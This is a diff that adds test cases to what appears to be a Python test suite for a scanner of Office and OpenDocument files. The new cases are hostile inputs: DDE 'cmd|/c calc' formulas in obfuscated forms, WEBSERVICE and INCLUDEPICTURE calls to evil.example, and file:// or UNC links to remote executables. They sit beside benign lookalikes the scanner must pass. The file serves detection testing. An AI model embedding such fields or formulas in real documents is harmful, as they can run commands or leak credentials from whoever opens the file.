@@ -27,6 +27,8 @@ PROGRAMS = (
     b"MIME-Version: 1.0\n\n<html>",
 )
 SHARE = "\\\\10.0.0.1\\share\\a.dotm"
+CELL = '<table:table-cell table:formula="of:'
+XFORMS = 'xmlns:xf="http://www.w3.org/2002/xforms"'
 WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
 
 
@@ -40,6 +42,14 @@ def word(body):
 def field(*instructions):
     runs = "".join(f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in instructions)
     return f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+
+
+END = '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+
+
+def deleted(body):
+    """Return a part of a text as Word keeps what was deleted while changes are tracked."""
+    return f"<w:del>{body.replace('instrText', 'delInstrText')}</w:del>"
 
 
 def writer(body, more=None):
@@ -211,6 +221,17 @@ class TestWordAndExcel(FileCase):
             field("INCLUDETEXT &quot;https://evil.example/a.docx&quot;"),
             field("INCLUDEPICTURE &quot;https://evil.example/a.png&quot; \\d"),
             field("INCLUDEPICTURE &quot;\\\\\\\\10.0.0.1\\\\a.png&quot;"),
+            field("INCLUDEPICTURE \\d &quot;https://evil.example/a.png&quot;"),
+            field("INCLUDEPICTURE \\c PNG32 &quot;https://evil.example/a.png&quot;"),
+            field("INCLUDEPICTURE \\* MERGEFORMATINET https://evil.example/a.png"),
+            field("INCLUDEPICTURE a.png &quot;https://evil.example/a.png&quot;"),
+            field("INCLUDEPICTURE &quot;&quot; &quot;https://evil.example/a.png&quot;"),
+            field("INCLUDEPICTURE&quot;https://evil.example/a.png&quot;"),
+            field("INCLUDEPICTURE \u201chttps://evil.example/a.png\u201d"),
+            field("INCLUDEPICTURE &quot;a\\&quot; https://evil.example/a.png&quot;"),
+            field("INCLUDEPICTURE &quot;https://evil.example/a.png"),
+            deleted(field("INCLUDETEXT &quot;https://evil.example&quot;")),
+            deleted(field("INCLUDE", "TEXT &quot;https://evil.example&quot;")),
             field("LINK Excel.Sheet.12 &quot;\\\\\\\\h\\\\a.xlsx&quot;"),
             field("IMPORT x"),
             field("DATABASE \\c &quot;x&quot;"),
@@ -224,7 +245,18 @@ class TestWordAndExcel(FileCase):
         ):
             with self.subTest(body=body):
                 self.assert_codes("a.docx", word(body), "fetches")
-        self.assert_codes("a.docx", word(field("HYPERLINK &quot;\\\\\\\\10.0.0.1\\\\share&quot;")), "link")
+        for instruction in (
+            "HYPERLINK &quot;\\\\\\\\10.0.0.1\\\\share&quot;",
+            "HYPERLINK \\t &quot;_b&quot; &quot;file://10.0.0.1/a.exe&quot;",
+            "HYPERLINK \\n &quot;file://10.0.0.1/a.exe&quot;",
+            "HYPERLINK \\l &quot;a&quot; \\m file://10.0.0.1/a.exe",
+            "HYPERLINK \\o &quot;file://10.0.0.1/a&quot;",
+            "HYPERLINK &quot;https://customs.example&quot; \\n &quot;ms-word:ofe|u|x&quot;",
+            "HYPERLINK\u201cfile://10.0.0.1/a\u201d",
+        ):
+            with self.subTest(instruction=instruction):
+                self.assert_codes("a.docx", word(field(instruction)), "link")
+                self.assert_codes("a.docx", word(deleted(field(instruction))), "link")
         for instruction in (
             "PAGE \\* MERGEFORMAT",
             " TOC \\o &quot;1-3&quot; \\h",
@@ -236,10 +268,22 @@ class TestWordAndExcel(FileCase):
             "FORMTEXT ",
             "ADDIN ZOTERO_ITEM CSL_CITATION {}",
             "INCLUDEPICTURE &quot;cid:image1.png@1&quot;",
+            "INCLUDEPICTURE \\d &quot;C:\\\\My pictures\\\\a.png&quot; \\* MERGEFORMATINET",
+            "INCLUDEPICTURE &quot;C:\\Users\\Ivan\\a.png&quot;",
+            "HYPERLINK &quot;https://a.example&quot; \\o &quot;Title: page&quot; \\t &quot;_blank&quot;",
+            "HYPERLINK &quot;mailto:a@b.rs?subject=x&quot;",
+            "HYPERLINK &quot;C:\\\\list.docx&quot; \\l &quot;place&quot;",
             "",
         ):
             with self.subTest(instruction=instruction):
                 self.assert_codes("a.docx", word(field(instruction)))
+        for body in (
+            deleted(field(" PAGE ")),
+            # One field in the place of another, as Word notes it.
+            field("PAGE").replace("instrText", "delInstrText")[: -len(END)]
+            + f"<w:ins><w:r><w:instrText>NUMPAGES</w:instrText></w:r></w:ins>{END}",
+        ):
+            self.assert_codes("a.docx", word(body))
         nested = '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> IF </w:instrText></w:r>'
         nested += field("MERGEFIELD a") + "<w:r><w:instrText> = 1</w:instrText></w:r>"
         self.assert_codes("a.docx", word(nested + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'))
@@ -253,8 +297,27 @@ class TestWordAndExcel(FileCase):
             "RTD(&quot;x&quot;,,&quot;y&quot;)",
             "cmd|'/c calc'!A0",
             "1+CALL(&quot;urlmon&quot;)",
+            "'a&quot;b'!A1&amp;WEBSERVICE(&quot;https://evil.example/&quot;)",
+            "'a&quot;b'!A1+cmd|'/c calc'!A0&amp;&quot;x&quot;",
+            "'it''s &quot;b'!A1&amp;WEBSERVICE(A1)&amp;&quot;x&quot;",
+            "T[a&quot;b]&amp;WEBSERVICE(&quot;https://evil.example/&quot;)",
+            "T[a']&quot;b]&amp;WEBSERVICE(&quot;https://evil.example/&quot;)",
+            "&quot;a&quot;&quot;&quot;&amp;WEBSERVICE(&quot;https://evil.example/&quot;)",
+            "&quot;a&amp;WEBSERVICE(A1)",
+            "'cmd'|'/c calc'!A0",
+            "кмд|'/c calc'!A0",
+            "cmd | '/c calc' ! A0",
+            "..\\..\\cmd.exe|'/c calc'!A0",
+            "WEBSERVICE (A1)",
+            "_xlfn._xlws.PY(0,1)",
+            "_xlfn.STOCKHISTORY(A1)",
+            "_xlfn.UNHEARDOF(A1)",
+            "'https://evil.example/[a.xlsx]A'!A1",
+            "'\\\\10.0.0.1\\share\\[a.xlsx]A'!A1",
+            "INDIRECT(&quot;'file://10.0.0.1/a.ods'#$A.A1&quot;)",
+            "A1&amp;" * 60_000 + "A1",
         ):
-            for name in ("f", "definedName", "formula1"):
+            for name in ("f", "definedName", "formula1", "totalsRowFormula"):
                 sheet = {"xl/worksheets/sheet1.xml": f"<sheet><{name}>{formula}</{name}></sheet>"}
                 with self.subTest(formula=formula, name=name):
                     self.assert_codes("a.xlsx", xlsx(sheet), "fetches")
@@ -264,9 +327,43 @@ class TestWordAndExcel(FileCase):
             "&quot;WEBSERVICE(&quot;",
             "HYPERLINK(A1)",
             "[1]Sheet1!A1",
+            "'it''s &quot;x'!A1&amp;&quot;WEBSERVICE(&quot;",
+            "'Jan:Mar 2026'!A1",
+            "'[1]C&quot;D'!A1",
+            "T[[#This Row],[Price | EUR (&quot;net&quot;)]]*T[IMAGE (x)]",
+            "_xlfn._xlws.FILTER(A1:A9,A1:A9&gt;1)+_xlfn.XLOOKUP(A1,B1:B9,C1:C9)",
+            "_xlfn.LET(_xlpm.x,1,_xlpm.x)",
+            "СуммаПрописью(A1)",
+            "IF(A1=&quot;x&quot;,INDIRECT(&quot;'Sheet 2'!A1&quot;),1/2)",
+            "MYIMAGE(A1)",
+            "HYPERLINK(&quot;https://customs.example/?q=&quot;&amp;A1,&quot;see: page&quot;)",
+            "HYPERLINK(&quot;#'it''s a &quot;&quot;b&quot;&quot;'!A1&quot;,&quot;go&quot;)",
+            "HYPERLINK(&quot;#A&quot;&amp;MATCH(&quot;Total:&quot;,A:A,0),&quot;file://x&quot;)",
+            "HYPERLINK(&quot;mailto:&quot;&amp;A1)",
+            "HYPERLINK(&quot;C:\\list.xlsx&quot;)",
         ):
             sheet = {"xl/worksheets/sheet1.xml": f"<sheet><f>{formula}</f><v>WEBSERVICE(1)</v></sheet>"}
             self.assert_codes("a.xlsx", xlsx(sheet))
+        for formula in (
+            "HYPERLINK(&quot;file://10.0.0.1/a.exe&quot;,&quot;a&quot;)",
+            "HYPERLINK(&quot;f&quot;&amp;&quot;ile://10.0.0.1/a&quot;)",
+            "HYPERLINK(&quot;\\\\10.0.0.1\\a&quot;)",
+            "HYPERLINK(A1&amp;&quot;\\a.exe&quot;)",
+            "HYPERLINK(&quot;search-ms:query=x&quot;,1)",
+            "IF(A1,HYPERLINK(IF(B1,&quot;x&quot;,&quot;file://10.0.0.1/a&quot;)),2)",
+            "'a&quot;b'!A1&amp;HYPERLINK(&quot;javascript:x&quot;)",
+        ):
+            sheet = {"xl/worksheets/sheet1.xml": f"<sheet><f>{formula}</f></sheet>"}
+            with self.subTest(formula=formula):
+                self.assert_codes("a.xlsx", xlsx(sheet), "link")
+        for body in (
+            "<cfvo type='formula' val='WEBSERVICE(A1)'/>",
+            "<cacheField formula='WEBSERVICE(A1)'/>",
+            "<calculatedItem formula='WEBSERVICE(A1)'/>",
+        ):
+            self.assert_codes("a.xlsx", xlsx({"xl/worksheets/sheet1.xml": f"<x>{body}</x>"}), "fetches")
+        fraction = '<m:f xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math">%s</m:f>'
+        self.assert_codes("a.docx", word(fraction % (fraction % "|x|")))
         nested = {"xl/worksheets/sheet1.xml": "<sheet><f>WEBSERV<f>1</f>ICE(A1)</f></sheet>"}
         self.assert_codes("a.xlsx", xlsx(nested), "unreadable")
         for body in ("<ddeLink ddeService='cmd'/>", "<oleLink/>", "<dbPr connection='x'/>"):
@@ -279,6 +376,8 @@ class TestWordAndExcel(FileCase):
         for content, codes in (
             (f'<xml {names}><v:imagedata src="https://evil.example/a.png"/></xml>', ["fetches"]),
             (f'<xml {names}><v:shape><br><v:imagedata src="{SHARE}"/></v:shape></xml>', ["fetches"]),
+            (f'<xml {names}><v:shape href="{SHARE}"/></xml>', ["link"]),
+            (f'<xml {names}><v:rect href="https://customs.example/"/></xml>', []),
             (f'<xml {names}><o:OLEObject Type="Link" ProgID="x"/></xml>', ["fetches"]),
             (f"<xml {names}><v:shape><br>text</v:shape></xml>", []),
         ):
@@ -287,6 +386,7 @@ class TestWordAndExcel(FileCase):
         for body, codes in (
             ("<script>x</script>", ["object"]),
             ('<image l:href="https://evil.example/a.png"/>', ["fetches"]),
+            ('<use l:href="https://evil.example/a.svg#b"/>', ["fetches"]),
             ('<image l:href="data:image/png;base64,xx"/><rect fill="red"/>', []),
         ):
             self.assert_codes("a.docx", docx(**{"word/media/image1.svg": svg % body}), *codes)
@@ -329,13 +429,32 @@ class TestOpenDocument(FileCase):
             ('<table:table-cell table:formula="of:=WEBSERVICE(&quot;https://x&quot;)"/>', "fetches"),
             ('<table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;1;2)"/>', "fetches"),
             ("<table:table-cell table:formula=\"of:='file://10.0.0.1/a.ods'#$A.A1\"/>", "fetches"),
+            (f"{CELL}=[.'a&quot;b'.A1]&amp;WEBSERVICE(&quot;https://x&quot;)\"/>", "fetches"),
+            (f"{CELL}=[$'a&quot;b'.A1]&amp;DDE(&quot;soffice&quot;;1;2)\"/>", "fetches"),
+            (f"{CELL}=[.'a&quot;b'.A1]&amp;['https://x/a.ods'#$A.A1]&amp;&quot;x&quot;\"/>", "fetches"),
+            (f"{CELL}=[.'a&quot;b'.A1]+cmd|'/c calc'!A0&amp;&quot;x&quot;\"/>", "fetches"),
+            (f'{CELL}=COM.MICROSOFT.WEBSERVICE([.A1])"/>', "fetches"),
+            (f'{CELL}=HYPERLINK(&quot;file://10.0.0.1/a.exe&quot;)"/>', "link"),
+            ('<table:condition table:value="formula-is(WEBSERVICE(A1))"/>', "fetches"),
+            ("<d:x d:values-cell-range-address=\"'https://x/a.ods'#$A.A1\"/>", "fetches"),
+            ('<xf:instance src="https://evil.example/a.xml"/>', "fetches"),
+            ('<xf:instance resource="file://10.0.0.1/a.xml"/>', "fetches"),
+            ('<xf:submission action="https://evil.example/"/>', "fetches"),
+            ('<xf:submission action="mailto:a@evil.example"/>', "fetches"),
+            ('<xf:model schema="https://evil.example/a.xsd"/>', "fetches"),
+            ('<form:form form:datasource="file:///C:/a.odb" form:command="SELECT 1"/>', "fetches"),
+            ('<form:form form:datasource="/home/a.odb"/>', "fetches"),
+            ('<t:database-display t:database-name="https://evil.example/a.odb"/>', "fetches"),
+            ('<d:frame d:unheard="https://evil.example/a"/>', "fetches"),
+            (f'<d:frame d:unheard="{SHARE}"/>', "fetches"),
+            ('<t:bibliography-mark t:url="file://10.0.0.1/a"/>', "link"),
             ('<form:connection-resource x:href="sdbc:x"/>', "fetches"),
             ('<t:a x:href="file://10.0.0.1/a"/>', "link"),
             ('<form:form x:href="javascript:x"/>', "macros"),
             ('<form:form x:href="file:///C:/a.exe"/>', "link"),
         ):
             for name in ("content.xml", "Object 1/content.xml", "styles.xml"):
-                part = {name: f"<o:document-content {ODF_NAMES}>{body}</o:document-content>"}
+                part = {name: f"<o:document-content {ODF_NAMES} {XFORMS}>{body}</o:document-content>"}
                 with self.subTest(body=body, name=name):
                     self.assert_codes("a.odt", odf("text", part), code)
 
@@ -371,6 +490,27 @@ class TestOpenDocument(FileCase):
                 {"Configurations2/accelerator/current.xml": "", "Pictures/1.png": b"\x89PNG"},
             ),
         )
+        for body in (
+            f"{CELL}=[.'it''s a &quot;b'.A1]&amp;&quot;WEBSERVICE(&quot;\"/>",
+            f'{CELL}={{1;2|3;4}}"/>',
+            f'{CELL}=HYPERLINK(&quot;https://customs.example&quot;;&quot;a: b&quot;)"/>',
+            f"{CELL}='file:///C:/a.ods'#$A.A1\"/>",
+            '<table:table-cell table:formula="ooow:sum &lt;A1:B2&gt; | 5"/>',
+            '<table:table-cell o:string-value="https://customs.example/"/>',
+            '<d:frame d:name="https://customs.example/a.png" d:style-name="a:b"/>',
+            '<form:text form:value="https://customs.example" form:label="a|b (c)"/>',
+            '<form:form form:datasource="Bibliography" form:command="biblio"/>',
+            '<form:form form:datasource="" x:href="https://customs.example/send"/>',
+            '<xf:instance src="#a"/>',
+            '<t:bibliography-mark t:url="https://customs.example" t:title="A: b"/>',
+            '<x g:transformation="http://docs.oasis-open.org/odf2rdf.xsl" '
+            'xmlns:g="http://www.w3.org/2003/g/data-view#"/>',
+            '<x r:resource="http://docs.oasis-open.org/meta/odf#ContentFile" '
+            'xmlns:r="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/>',
+        ):
+            with self.subTest(body=body):
+                part = f"<o:document-content {ODF_NAMES} {XFORMS}>{body}</o:document-content>"
+                self.assert_codes("a.odt", odf("text", {"content.xml": part}))
         old = '<!DOCTYPE m:manifest PUBLIC "-//OpenOffice.org//DTD Manifest 1.0//EN" "Manifest.dtd">'
         self.assert_codes("a.odt", writer("", {"META-INF/manifest.xml": f"{old}<m:manifest {ODF_NAMES}/>"}))
 
